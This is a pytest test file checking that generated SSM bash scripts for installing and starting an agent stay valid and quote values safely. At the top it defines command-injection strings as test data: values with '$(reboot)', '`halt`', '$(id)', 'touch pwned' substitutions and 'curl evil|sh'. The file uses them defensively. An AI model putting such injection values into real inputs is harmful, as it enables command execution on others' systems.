"""The SSM shell scripts: valid bash, strict mode, and every value quoted as one word."""

from __future__ import annotations

import fcntl
import os
import shlex
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import psutil
import pytest

from lambdas.constants import agent_config_key
from lambdas.logic.agent_commands import install_agent_script, start_agent_script

# Each would create a file named pwned* in the working directory if it reached a shell unquoted.
HOSTILE_RUN_ID = "run'; touch pwned1; echo '$(touch pwned2)`touch pwned3`\"x"
HOSTILE_BUCKET = "bucket name;$(reboot)&&`halt`"
HOSTILE_REGION = "us-east-1; curl evil|sh"
HOSTILE_AGENT_URI = "s3://bucket/agent/instance agent$(id).zip"


def _bash_syntax_error(script: list[str]) -> str:
    """bash -n parses without running; returns its complaints ('' when the script is valid)."""
    completed = subprocess.run(
        ["bash", "-n"], input="\n".join(script), capture_output=True, text=True, check=False
    )
    return completed.stderr if completed.returncode else ""


def _line(script: list[str], start: str) -> str:
    """The one script line that begins with `start` (leading blanks ignored)."""
    (found,) = [line for line in script if line.lstrip().startswith(start)]
    return found


@pytest.fixture
def start_script() -> list[str]:
    return start_agent_script(HOSTILE_BUCKET, HOSTILE_RUN_ID, 3, HOSTILE_REGION)


@pytest.fixture
def install_script() -> list[str]:
    return install_agent_script(HOSTILE_AGENT_URI, HOSTILE_REGION)


def test_given_plain_values_when_scripts_are_built_then_bash_parses_them():
    assert _bash_syntax_error(start_agent_script("runctl-bucket", "run-1", 1, "us-east-1")) == ""
    assert _bash_syntax_error(install_agent_script("s3://b/agent.zip", "us-east-1")) == ""


def test_given_hostile_values_when_scripts_are_built_then_bash_still_parses_them(
    start_script, install_script
):
    assert _bash_syntax_error(start_script) == ""
    assert _bash_syntax_error(install_script) == ""


def test_given_any_script_when_built_then_strict_mode_comes_first(start_script, install_script):
    assert start_script[0] == "set -euo pipefail"
    assert install_script[0] == "set -euo pipefail"


def test_given_hostile_run_id_and_bucket_when_start_script_is_built_then_config_uri_is_one_word(
    start_script,
):
    expected_uri = f"s3://{HOSTILE_BUCKET}/{agent_config_key(HOSTILE_RUN_ID, 3)}"
    for marker in ("setsid nohup", "systemd-run"):
        outer = shlex.split(_line(start_script, marker))
        # The agent command is one word for `bash -c`; inside it, the config URI is one word.
        inner = shlex.split(outer[outer.index("-c") + 1])

        assert inner[inner.index("--config") + 1] == expected_uri
        assert inner[inner.index("-m") + 1] == "instance_agent"
        assert inner[-2:] == ["--config", expected_uri]


def test_given_hostile_region_when_start_script_is_built_then_region_is_one_word(start_script):
    assert shlex.split(_line(start_script, "export AWS_DEFAULT_REGION"))[1] == (
        f"AWS_DEFAULT_REGION={HOSTILE_REGION}"
    )
    setenv = [
        word
        for word in shlex.split(_line(start_script, "systemd-run"))
        if word.startswith("--setenv=AWS_DEFAULT_REGION")
    ]
    assert setenv == [f"--setenv=AWS_DEFAULT_REGION={HOSTILE_REGION}"]


def test_given_hostile_run_id_when_start_script_is_built_then_unit_and_lock_names_are_hex(
    start_script,
):
    unit = shlex.split(_line(start_script, "systemd-run"))
    tag = unit[unit.index("--unit") + 1].removeprefix("runctl-agent-")
    assert len(tag) == 16
    assert all(char in "0123456789abcdef" for char in tag)


def test_given_start_script_when_built_then_agent_runs_under_a_per_attempt_flock(start_script):
    for marker in ("setsid nohup", "systemd-run"):
        outer = shlex.split(_line(start_script, marker))
        inner = shlex.split(outer[outer.index("-c") + 1])
        assert inner[:2] == ["flock", "-n"]
        assert inner[2].startswith("$RUNCTL_HOME/agent-") and inner[2].endswith(".lock")
        assert inner[3:5] == ["python3", "-m"]


def test_given_two_attempts_when_start_scripts_are_built_then_locks_differ():
    first = _line(start_agent_script("b", "run-1", 1, "us-east-1"), "setsid")
    second = _line(start_agent_script("b", "run-1", 2, "us-east-1"), "setsid")

    assert first != second


def test_given_hostile_agent_uri_when_install_script_is_built_then_uri_and_region_are_words(
    install_script,
):
    words = shlex.split(_line(install_script, "python3 - "))

    assert words[:5] == ["python3", "-", HOSTILE_AGENT_URI, HOSTILE_REGION, "$RUNCTL_HOME"]


def test_given_install_script_when_built_then_python_heredoc_is_not_expanded(install_script):
    # A quoted heredoc delimiter: bash leaves $ and ` inside the Python source alone.
    heredoc = _line(install_script, "python3 - ")
    assert heredoc.endswith("<<'RUNCTL_PY'")
    assert install_script.index("RUNCTL_PY") > install_script.index(heredoc)


@pytest.fixture
def start_for_real(tmp_path):
    """Run the start script with `python3` replaced by a bash stand-in (its body given), so
    nothing but the "agent" can run; returns (completed process, home)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    home = tmp_path / "home"
    home.mkdir()

    def run(
        fake_python: str, run_id: str = "run-1", confirm_seconds: float = 5
    ) -> subprocess.CompletedProcess[str]:
        (bin_dir / "python3").write_text("#!/bin/bash\n" + fake_python)
        (bin_dir / "python3").chmod(0o755)
        script = start_agent_script(HOSTILE_BUCKET, run_id, 3, "us-east-1", confirm_seconds)
        return subprocess.run(
            ["bash", "-c", "\n".join(script)],
            env={
                "PATH": f"{bin_dir}:/usr/bin:/bin",
                "RUNCTL_HOME": str(home),
                "RUNCTL_NO_SYSTEMD": "1",
            },
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    return run, home


# A stand-in agent that records its argv and writes its pid file as the real one does
# (argv: -m instance_agent --started-file PATH --config URI).
RECORDING_AGENT = """
printf "%s\\0" "$@" > "$RUNCTL_HOME/../argv"
echo $$ > "$4.tmp" && mv "$4.tmp" "$4"
"""


def test_given_hostile_run_id_when_start_script_runs_then_agent_gets_it_as_one_argument(
    start_for_real, tmp_path
):
    run, home = start_for_real

    completed = run(RECORDING_AGENT, run_id=HOSTILE_RUN_ID)

    assert completed.returncode == 0, completed.stderr
    assert completed.stdout.startswith("runctl-agent-started attempt 3 pid ")
    argv = (tmp_path / "argv").read_text().split("\0")[:-1]
    assert argv[:3] == ["-m", "instance_agent", "--started-file"]
    assert Path(argv[3]).parent == home and argv[3].endswith(".started")
    assert argv[4:] == ["--config", f"s3://{HOSTILE_BUCKET}/{agent_config_key(HOSTILE_RUN_ID, 3)}"]
    assert sorted(path.name for path in tmp_path.rglob("pwned*")) == []


def test_given_an_agent_that_dies_at_once_when_started_then_the_script_fails_and_says_so(
    start_for_real,
):
    run, _ = start_for_real

    # (a bound far longer than the test may take: an agent that is gone is not waited for)
    completed = run(
        "echo 'ModuleNotFoundError: No module named boto3' >&2; exit 1\n", confirm_seconds=300
    )

    assert completed.returncode == 1
    assert "runctl-agent-started" not in completed.stdout
    # The script's own line, then the agent's last output (from its .out file)
    assert "the agent exited before it started" in completed.stderr
    assert completed.stderr.strip().endswith("ModuleNotFoundError: No module named boto3")


def test_given_this_attempts_agent_runs_already_when_started_again_then_it_is_confirmed(
    start_for_real, tmp_path
):
    # Given a live agent for the attempt: its lock held, its pid file written (this process
    # stands in for it), as after a StartAgent whose first invocation went through
    run, home = start_for_real
    (started,) = _paths(home, ".started", RECORDING_AGENT, run)
    started.write_text(str(os.getpid()))
    (argv := tmp_path / "argv").unlink()
    with (home / started.name.replace(".started", ".lock")).open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)

        completed = run(RECORDING_AGENT, confirm_seconds=1)

    # Then the start is confirmed with that agent's pid, and no second agent ran
    assert completed.returncode == 0, completed.stderr
    assert completed.stdout.strip() == f"runctl-agent-started attempt 3 pid {os.getpid()}"
    assert not argv.exists()


def test_given_a_pid_file_of_a_dead_agent_when_the_start_fails_then_it_is_not_a_confirmation(
    start_for_real,
):
    # (the pid file is checked before the launcher: a stale one would confirm at once)
    run, home = start_for_real
    (started,) = _paths(home, ".started", RECORDING_AGENT, run)
    gone = subprocess.Popen(["true"])
    gone.wait()
    started.write_text(str(gone.pid))  # an agent of this attempt that has ended

    completed = run("exit 1\n", confirm_seconds=1)

    assert completed.returncode == 1
    assert "the agent exited before it started" in completed.stderr
    assert not started.exists()


def _paths(home: Path, suffix: str, agent: str, run) -> list[Path]:
    """The attempt's files with this suffix, after one start with `agent` made them."""
    assert run(agent).returncode == 0
    return sorted(home.glob(f"agent-*{suffix}"))


def _wait_for(path, seconds: float = 60.0) -> None:
    """The agent is started detached: wait until the stand-in has written all of its argv."""
    _wait_until(lambda: path.exists() and path.read_bytes().endswith(b"\0"), seconds)


# A stand-in boto3 whose download_file serves the next file listed in STUB_DOWNLOADS (one per
# call, the last one repeating), so the installer can be run for real without S3.
_STUB_BOTO3 = """
import os, shutil

class _S3:
    def download_file(self, bucket, key, path):
        served = os.environ["STUB_DOWNLOADS"].split(os.pathsep)
        counter = os.environ["STUB_COUNTER"]
        calls = len(open(counter).read()) if os.path.exists(counter) else 0
        with open(counter, "a") as handle:
            handle.write("x")
        shutil.copyfile(served[min(calls, len(served) - 1)], path)

def client(service, region_name=None):
    return _S3()
"""


@pytest.fixture
def installer(tmp_path):
    """Run the install script against a stub S3; returns (run, home, counter, agent, corrupt)."""
    stub = tmp_path / "stub"
    stub.mkdir()
    (stub / "boto3.py").write_text(_STUB_BOTO3)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(sys.executable)
    agent = tmp_path / "agent.zip"
    with zipfile.ZipFile(agent, "w") as archive:
        archive.writestr("__init__.py", "VERSION = 'stub'\n")
        archive.writestr("main.py", "print('agent')\n")
    corrupt = tmp_path / "corrupt.zip"
    corrupt.write_bytes(agent.read_bytes().replace(b"VERSION", b"VERSXON"))
    home = tmp_path / "home"
    counter = tmp_path / "downloads"

    def run(*downloads: Path, pythonpath: Path = stub) -> subprocess.Popen[str]:
        env = {
            "PATH": f"{bin_dir}:/usr/bin:/bin",
            "PYTHONPATH": str(pythonpath),
            "RUNCTL_HOME": str(home),
            "RUNCTL_INSTALL_RETRY_SECONDS": "0",
            "STUB_DOWNLOADS": os.pathsep.join(str(path) for path in downloads),
            "STUB_COUNTER": str(counter),
        }
        script = install_agent_script("s3://bucket/agent/instance_agent.zip", "us-east-1")
        return subprocess.Popen(
            ["bash", "-c", "\n".join(script)],
            env=env,
            cwd=tmp_path,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    return run, home, counter, agent, corrupt


def _agent_files(home: Path) -> list[str]:
    return sorted(path.name for path in (home / "instance_agent").glob("*.py"))


def test_given_a_corrupt_download_when_installing_then_it_is_fetched_again(installer):
    run, home, counter, agent, corrupt = installer

    process = run(corrupt, agent)
    stdout, stderr = process.communicate(timeout=60)

    assert process.returncode == 0, stderr
    assert "install attempt 1 failed: BadZipFile" in stderr
    assert stdout.strip().endswith("agent import ok")
    assert counter.read_text() == "xx"
    assert _agent_files(home) == ["__init__.py", "main.py"]


def test_given_a_python_without_boto3_when_installing_then_boto3_is_installed_and_fetched_once(
    installer, tmp_path
):
    # Given an image whose python3 has no boto3 (site-packages off; PYTHONPATH empty) and whose
    # package manager, when asked, installs the stand-in boto3
    run, home, counter, agent, _ = installer
    empty = tmp_path / "site"
    empty.mkdir()
    bin_dir = tmp_path / "bin"
    (bin_dir / "python3").unlink()
    (bin_dir / "python3").write_text(f'#!/bin/bash\nexec {sys.executable} -S "$@"\n')
    (bin_dir / "dnf").write_text(
        f'#!/bin/bash\necho "dnf $*" >> {tmp_path}/dnf.log\n'
        f"cp {tmp_path}/stub/boto3.py {empty}/boto3.py\n"
    )
    for name in ("python3", "dnf"):
        (bin_dir / name).chmod(0o755)

    process = run(agent, pythonpath=empty)
    stdout, stderr = process.communicate(timeout=60)

    # Then it installed boto3 once, fetched the agent once (the first try stopped before any
    # download) and checked that the agent imports
    assert process.returncode == 0, stderr
    assert (tmp_path / "dnf.log").read_text() == "dnf install -y -q python3-boto3\n"
    assert counter.read_text() == "x"
    assert stdout.strip().endswith("agent import ok")
    assert _agent_files(home) == ["__init__.py", "main.py"]


def test_given_only_corrupt_downloads_then_the_install_fails_and_the_old_agent_stays_whole(
    installer,
):
    run, home, counter, agent, corrupt = installer
    assert run(agent).wait(timeout=60) == 0
    counter.unlink()

    process = run(corrupt)
    _, stderr = process.communicate(timeout=60)

    assert process.returncode != 0
    assert stderr.strip().splitlines()[-1].startswith("zipfile.BadZipFile")
    assert counter.read_text() == "xxx"  # three tries
    assert _agent_files(home) == ["__init__.py", "main.py"]
    assert list(home.glob(".agent-*")) == []  # no staging left behind


def test_given_another_install_holds_the_lock_then_an_install_waits_for_it(installer):
    run, home, counter, agent, _ = installer
    home.mkdir()
    with (home / "install.lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # as a first install in progress would
        process = run(agent)
        _wait_until(lambda: _blocked_in_flock(process.pid))
        assert not counter.exists()  # nothing downloaded while the lock is held
    _, stderr = process.communicate(timeout=60)

    assert process.returncode == 0, stderr
    assert counter.read_text() == "x"
    assert _agent_files(home) == ["__init__.py", "main.py"]


def test_given_two_installs_at_once_on_one_instance_then_both_succeed_with_one_whole_agent(
    installer,
):
    run, home, counter, agent, _ = installer
    (home / ".agent-killed-install").mkdir(parents=True)  # staging of an install killed midway

    processes = [run(agent), run(agent)]
    results = [process.communicate(timeout=60) for process in processes]

    assert [process.returncode for process in processes] == [0, 0], results
    assert counter.read_text() == "xx"
    assert _agent_files(home) == ["__init__.py", "main.py"]
    assert list(home.glob(".agent-*")) == []


def _blocked_in_flock(pid: int) -> bool:
    return any(_name_or_none(child) == "flock" for child in psutil.Process(pid).children())


def _name_or_none(process: psutil.Process) -> str | None:
    # A short-lived child (the script's mkdir, rm, ...) may exit between listing and reading.
    try:
        return process.name()
    except psutil.NoSuchProcess:
        return None


def _wait_until(condition, seconds: float = 60.0) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "condition not reached in time"
        time.sleep(0.02)


def test_given_an_agent_that_hangs_before_its_pid_file_then_the_script_fails_at_its_bound(
    start_for_real,
):
    run, _ = start_for_real

    completed = run("exec sleep 5\n", confirm_seconds=1)

    assert completed.returncode == 1
    assert "the agent did not start within 1 s" in completed.stderr
